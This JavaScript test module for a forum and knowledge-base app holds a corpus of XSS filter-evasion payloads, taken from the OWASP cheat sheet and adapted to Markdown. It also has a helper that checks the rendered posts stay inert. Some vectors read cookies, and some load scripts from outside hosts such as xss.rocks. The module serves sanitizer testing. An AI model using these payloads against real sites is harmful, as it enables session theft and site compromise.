// The XSS filter-evasion corpus (after the OWASP XSS Filter Evasion Cheat Sheet) that the forum
// and knowledge-base tests post as threads, replies and articles. Every vector that ran would
// open a dialog (alert/confirm/prompt) or add an element marked `data-xss`; `assertInert` checks
// that neither happened and that nothing executable survived in the rendered Markdown.
import assert from 'node:assert/strict';

const INJECT = "document.body.appendChild(Object.assign(document.createElement('div'),{id:'xss-injected'})).setAttribute('data-xss','1')";

export const VECTORS = [
  `<script>alert('XSS')</script>`,
  `<SCRIPT SRC=https://cdn.jsdelivr.net/gh/Moksh45/host-xss.rocks/index.js></SCRIPT>`,
  `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(1)//'>`,
  `<IMG SRC="javascript:alert('XSS');">`,
  `<IMG SRC=javascript:alert('XSS')>`,
  `<IMG SRC=JaVaScRiPt:alert('XSS')>`,
  `<IMG SRC=javascript:alert(&quot;XSS&quot;)>`,
  '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>',
  `<a onmouseover="alert(document.cookie)">xxs link</a>`,
  `<a onmouseover=alert(document.cookie)>xxs link</a>`,
  `<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>`,
  `<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>`,
  `<IMG SRC=# onmouseover="alert('xxs')">`,
  `<IMG SRC= onmouseover="alert('xxs')">`,
  `<IMG onmouseover="alert('xxs')">`,
  `<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>`,
  `<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">`,
  `<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>`,
  `<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>`,
  `<IMG SRC="jav	ascript:alert('XSS');">`,
  `<IMG SRC="jav&#x09;ascript:alert('XSS');">`,
  `<IMG SRC="jav&#x0A;ascript:alert('XSS');">`,
  `<IMG SRC=" &#14;  javascript:alert('XSS');">`,
  `<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>`,
  `<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^\`=alert("XSS")>`,
  `<<SCRIPT>alert("XSS");//\\<</SCRIPT>`,
  `<SCRIPT SRC=http://xss.rocks/xss.js?< B >`,
  `<IMG SRC="\`<javascript:alert>\`('XSS')"`,
  `<iframe src=http://xss.rocks/scriptlet.html <`,
  `</TITLE><SCRIPT>alert("XSS");</SCRIPT>`,
  `<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">`,
  `<BODY BACKGROUND="javascript:alert('XSS')">`,
  `<IMG DYNSRC="javascript:alert('XSS')">`,
  `<svg/onload=alert('XSS')>`,
  `<svg><script>alert(1)</script></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>`,
  `<details open ontoggle=alert(1)>`,
  `<STYLE>li {list-style-image: url("javascript:alert('XSS')");}</STYLE><UL><LI>XSS</br>`,
  `<BR SIZE="&{alert('XSS')}">`,
  `<LINK REL="stylesheet" HREF="javascript:alert('XSS');">`,
  `<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">`,
  `<IFRAME SRC="javascript:alert('XSS');"></IFRAME>`,
  `<FRAMESET><FRAME SRC="javascript:alert('XSS');"></FRAMESET>`,
  `<TABLE BACKGROUND="javascript:alert('XSS')">`,
  `<DIV STYLE="background-image: url(javascript:alert('XSS'))">`,
  `<DIV STYLE="width: expression(alert('XSS'));">`,
  `<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>`,
  `<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAwIiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlhTUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>`,
  `<a href="javascript:alert(1)">click</a>`,
  `<a href="&#106;avascript:alert(1)">click</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data link</a>`,
  `<form action="javascript:alert(1)"><button>go</button></form>`,
  `<base href="javascript:alert(1)//">`,
  `<img src=x onerror=${INJECT}>`,
  `<svg onload=${INJECT}>`,
  // The same tricks through Markdown's own syntax.
  `[click me](javascript:alert('XSS'))`,
  `[click me](JaVaScRiPt:alert(1))`,
  `[click me](javascript&#58;alert(1))`,
  `[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
  `![img](javascript:alert(1))`,
  `![x](x" onerror="alert(1))`,
  `[a](https://example.com "title\\" onmouseover=\\"alert(1)")`,
  `<https://example.com/"onmouseover="alert(1)>`,
  '```html\n<script>alert(1)</script>\n```',
  `**bold <img src=x onerror=alert(1)>**`,
  `> quote <iframe srcdoc="<script>parent.alert(1)</script>"></iframe>`,
  `| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | <script>alert(2)</script> |`,
];

/** Records every dialog the page opens (and dismisses it, so the page goes on). */
export function watchDialogs(page) {
  const fired = [];
  page.on('dialog', async (dialog) => {
    fired.push(`${dialog.type()}: ${dialog.message()}`);
    await dialog.dismiss().catch(() => {});
  });
  return fired;
}

/**
 * Asserts that the page shows the posted vectors inertly: no dialog fired, no injected element
 * exists, and the rendered Markdown holds no script, frame, object, event handler or script URL.
 * Hovers and clicks every link of the Markdown first, so that handlers needing a user would fire.
 */
export async function assertInert(page, fired, where) {
  const links = page.locator('.markdown a');
  const count = await links.count();
  for (let i = 0; i < count; i++) {
    const link = links.nth(i);
    const href = (await link.getAttribute('href')) ?? '';
    await link.hover({ timeout: 2000 }).catch(() => {});
    // Following a link leaves the page; only links that stay on it (or are inert) are clicked.
    if (!/^https?:/i.test(href) && !href.startsWith('/')) {
      await link.click({ timeout: 2000, noWaitAfter: true }).catch(() => {});
    }
  }
  await page.locator('.markdown img').evaluateAll((imgs) => imgs.forEach((i) => i.dispatchEvent(new Event('mouseover'))));
  await page.waitForTimeout(300);
  assert.deepEqual(fired, [], `${where}: a dialog fired`);
  const found = await page.evaluate(() => {
    const bad = [];
    if (document.querySelector('#xss-injected, [data-xss]')) bad.push('an injected element');
    for (const el of document.querySelectorAll('.markdown *')) {
      const tag = el.tagName.toLowerCase();
      if (['script', 'iframe', 'frame', 'object', 'embed', 'style', 'link', 'meta', 'base', 'form', 'input', 'svg', 'math'].includes(tag)) {
        bad.push(`<${tag}>`);
      }
      for (const attr of el.attributes) {
        if (/^on/i.test(attr.name)) bad.push(`${tag}[${attr.name}]`);
        if (/^(href|src|action|formaction|background|dynsrc|data)$/i.test(attr.name) && /^\s*(javascript|vbscript|data):/i.test(attr.value)) {
          bad.push(`${tag}[${attr.name}=${attr.value.slice(0, 30)}]`);
        }
        if (attr.name === 'style') bad.push(`${tag}[style]`);
      }
    }
    return bad;
  });
  assert.deepEqual(found, [], `${where}: something executable survived`);
}
